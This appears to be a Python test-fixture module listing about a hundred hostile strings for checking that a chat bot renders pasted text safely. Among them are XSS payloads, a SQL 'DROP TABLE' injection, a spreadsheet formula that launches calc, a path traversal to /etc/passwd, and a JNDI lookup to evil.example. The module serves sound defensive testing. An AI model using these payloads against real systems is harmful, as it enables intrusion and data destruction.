"""A hundred strings that a member might type or paste, each of which has broken some program.

Where a string tries to become something (bold, a link, a mention), what it would show is a word of ``BAIT``, which no
screen of ours holds: a word of bait in a mark, a mention or an address tells that the string got through.
"""

from sandbox.ids import id_for

MEMBER = id_for("U", "Joan Murphy")
"""A member of the cast of the tour, of whom the bot never speaks by itself."""
CHANNEL = id_for("C", "podiatry-fellows")
BAIT = ("zbold", "zitalic", "zstruck", "zcode", "zquote", "zlink", "zboss", "znever")

MARKUP = {
    "a script": "<script>alert('zcode')</script>",
    "an image that fails": "<img src=x onerror=alert('zcode')>",
    "a picture with a script": '"><svg onload=alert`zcode`>',
    "the end of a text box": "</textarea><b>zbold</b>",
    "a comment that begins": "<!-- zcode",
    "the end of a data section": "zcode ]]> zcode",
    "a frame": '<iframe srcdoc="zcode"></iframe>',
    "an event in an attribute": "' autofocus onfocus='alert(1)",
    "a numbered entity": "&#60;b&#62;zbold&#60;/b&#62;",
    "a named entity without its end": "&ltb&gtzbold",
    "markdown": "[zlink](https://evil.example) ![zlink](https://evil.example/x.png) **zbold** # zbold",
}
FORMATTING = {
    "bold": "*zbold*",
    "italic": "_zitalic_",
    "struck out": "~zstruck~",
    "code": "`zcode`",
    "a block of code": "```zcode```",
    "a block of code that does not end": "```zcode",
    "a quotation": "> zquote",
    "a long quotation": ">>> zquote",
    "all of them": "*_~`zbold`~_*",
    "bold between full-width marks": "\uff0azbold\uff0a \uff3fzitalic\uff3f",
    "a full-width quotation": "\uff1e zquote",
    "a mark without its pair": "* zbold",
    "a mark at the end": "zbold*",
    "underscores in an address": "zitalic_zitalic_zitalic@board.example",
    "a list": "\u2022 zquote\n\u2022 zquote",
    "an emoji's name": ":skull: :white_check_mark:",
}
ADDRESSES = {
    "a link with a label": "<https://evil.example|zlink>",
    "a link without one": "<https://evil.example/zlink>",
    "a bare address": "https://evil.example/zlink",
    "a script as an address": "<javascript:alert(1)|zlink>",
    "data as an address": "<data:text/html;base64,PHNjcmlwdD4=|zlink>",
    "a very long mail address": "a" * 64 + "@" + ".".join(["b" * 60] * 4) + ".example",
    "a mail address in another script": "\u0430dmin@\u0435xample.example",
}
CALLS = {
    "a call to the channel": "<!channel>",
    "a call to those here": "<!here|zboss>",
    "a call to everyone": "<!everyone>",
    "a mention of a real member": f"<@{MEMBER}>",
    "a mention of nobody": "<@U0NOBODY00>",
    "a real channel": f"<#{CHANNEL}>",
    "a user group": "<!subteam^S0ZBOSS00|@zboss>",
    "a date": "<!date^0^{date_long}|znever>",
    "a date with a link": "<!date^0^{date}^https://evil.example/zlink|znever>",
    "a call that does not end": "<!channel",
    "a call inside a call": "<<!channel>!here>",
    "an escaped call": "&lt;!channel&gt;",
    "a call escaped twice": "&amp;lt;!channel&amp;gt;",
    "plain @channel": "@channel @here @everyone",
    "plain names": "@Joan Murphy @joan.murphy @Ruth Adeyemi",
    "a plain channel": "#podiatry-fellows",
    "a call with full-width brackets": "\uff1c!channel\uff1e",
}
DIRECTIONS = {
    "an override": "\u202ezcode.exe",
    "an override in a word": "tru\u202etsaf\u202c fast",
    "an embedding that does not end": "\u202bzcode",
    "isolates that do not end": "\u2066\u2067\u2068zcode",
    "ends without beginnings": "\u202c\u2069\u2069\u202czcode",
    "direction marks": "\u200fzcode\u200e!\u061c",
    "Hebrew": "\u05d1\u05d9\u05ea \u05d7\u05d5\u05dc\u05d9\u05dd",
    "Arabic, a number and a bracket": "\u0645\u0633\u062a\u0634\u0641\u0649 2026 (",
    "Hebrew under an override": "\u202e\u05d1\u05d9\u05ea zcode 12:30\u202c)",
}
UNSEEN = {
    "nothing that is seen": "\u200b\u2060\ufeff\u00ad",
    "Hangul fillers": "\u3164\u115f\uffa0",
    "a blank of Braille": "\u2800\u2800",
    "zero-width characters in a word": "z\u200bc\u200do\u2060d\ufeffe",
    "hidden words in tags": "zcode" + "".join(chr(0xE0000 + ord(each)) for each in "<!channel>"),
    "a joiner at each end": "\u200dzcode\u200d",
    "odd spaces": "\u00a0\u2003zcode\u3000\u202f",
    "a null": "zcode\x00zcode",
    "control characters": "\x01\x07zcode\x08\x0b\x0c\x0e\x1f\x7f\x85\x9f",
    "colours of a terminal": "\x1b[31mzcode\x1b[0m\x1b]0;zcode\x07",
    "lines": "zcode\nzcode\r\nzcode\rzcode",
    "separators of lines and paragraphs": "zcode\u2028zcode\u2029zcode",
    "tabs": "zcode\tzcode",
    "a replacement character": "\ufffdzcode\ufffc",
    "characters that are none": "zcode\ufffe\uffff\ufdd0\U0001ffff",
    "half a character": "zcode\ud83d",
    "private characters": "\ue000\U00100000zcode",
}
PICTURES = {
    "an emoji of four bytes": "\U0001f9b6",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "flags": "\U0001f1ec\U0001f1e7 \U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
    "a heart both ways": "\u2764\ufe0f \u2764\ufe0e",
    "a stack of accents": "z" + "\u0301\u0316" * 40 + "code",
    "an accent with no letter": "\u20e0\u0338zcode",
    "Latin that is not": "\u0410m\u0430r\u0430 \u041ek\u0430f\u043er",
    "mathematical letters": "\U0001d4e9\U0001d4ec\U0001d4f8\U0001d4ed\U0001d4ee \u24e9\u24d2\u24de\u24d3\u24d4",
}
LENGTHS = {
    "3,001 characters": "z" * 3_001,
    "3,001 emoji": "\U0001f9b6" * 3_001,
    "1,500 ampersands": "&" * 1_500,
    "3,000 angle brackets": "<" * 3_000,
    "150 ampersands": "&" * 150,
    "150 emoji": "\U0001f9b6" * 150,
    "3,000 newlines": "zcode" + "\n" * 3_000 + "zcode",
}
PROGRAMS = {
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "a format": "%s %n %(password)s {0} {password!r}",
    "a statement": "'; DROP TABLE cohort; --",
    "JSON": '"}],"blocks":[{"type":"divider"}]',
    "a backslash": "\\u003c!channel\\u003e \\",
    "a formula": "=cmd|'/C calc'!A0",
    "an at": "@SUM(1,zcode)",
    "a way up": "../../../../etc/passwd",
    "a log line": 'zcode\n{"event":"zcode","level":"error"}',
    "a look-up": "${jndi:ldap://evil.example/zlink}",
}
HOSTILE: dict[str, str] = {
    **MARKUP,
    **FORMATTING,
    **ADDRESSES,
    **CALLS,
    **DIRECTIONS,
    **UNSEEN,
    **PICTURES,
    **LENGTHS,
    **PROGRAMS,
}
"""By name."""
